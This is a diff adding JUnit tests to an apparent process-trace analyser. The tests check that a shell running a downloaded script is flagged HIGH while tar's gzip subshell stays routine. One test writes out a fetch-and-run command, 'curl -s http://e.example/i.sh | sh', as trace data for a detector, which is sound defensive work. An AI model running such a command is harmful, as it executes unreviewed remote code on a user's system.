@@ -107,6 +107,29 @@ class RulesTest {
     }
 
     @Test
+    void aShellRunningWhatCurlPrintedIsHigh() throws Exception {
+        // sandtrace run -- sh -c 'curl -s http://e.example/i.sh | sh': no file is written, the script is a pipe
+        Report piped = report(exec(1, 10, "/bin/sh", "[\"sh\",\"-c\",\"curl -s http://e.example/i.sh | sh\"]")
+                + spawn(2, 10, 11) + exec(3, 11, "/usr/bin/curl", "[\"curl\",\"-s\",\"http://e.example/i.sh\"]")
+                + spawn(4, 10, 12) + exec(5, 12, "/bin/sh", "[\"sh\"]"));
+        Report.Indicator i = ReportAssertions.indicator(piped, "shell-spawn");
+        assertThat(i.severity()).isEqualTo(Severity.HIGH);
+        assertThat(i.reason()).contains("runs what a download printed: sh -c curl -s http://e.example/i.sh | sh");
+        // the same shell fed by something else stays routine
+        Report local = report(exec(1, 10, "/bin/sh", "[\"sh\",\"-c\",\"cat setup.sh | sh\"]")
+                + spawn(4, 10, 12) + exec(5, 12, "/bin/sh", "[\"sh\"]"));
+        assertThat(ReportAssertions.indicator(local, "shell-spawn").severity()).isEqualTo(Severity.INFO);
+    }
+
+    @Test
+    void tarCompressingThroughShIsRoutine() throws Exception {
+        // GNU tar czf runs its compressor as "/bin/sh -c gzip"
+        Report r = report(exec(1, 10, "/usr/bin/tar", "[\"tar\",\"czf\",\"t.tgz\",\"tree\"]") + spawn(2, 10, 11)
+                + exec(3, 11, "/bin/sh", "[\"/bin/sh\",\"-c\",\"gzip\"]") + exec(4, 11, "/usr/bin/gzip", "[\"gzip\"]"));
+        assertThat(found(r)).containsExactly("info shell-spawn: /usr/bin/tar started the shell /bin/sh: /bin/sh -c gzip");
+    }
+
+    @Test
     void aScriptDeletingItselfIsSelfDeletion() throws Exception {
         Report r = report(exec(1, 10, "/bin/sh", "[\"sh\",\"run.sh\"]") + spawn(2, 10, 11)
                 + exec(3, 11, "/bin/rm", "[\"rm\",\"-f\",\"run.sh\"]")
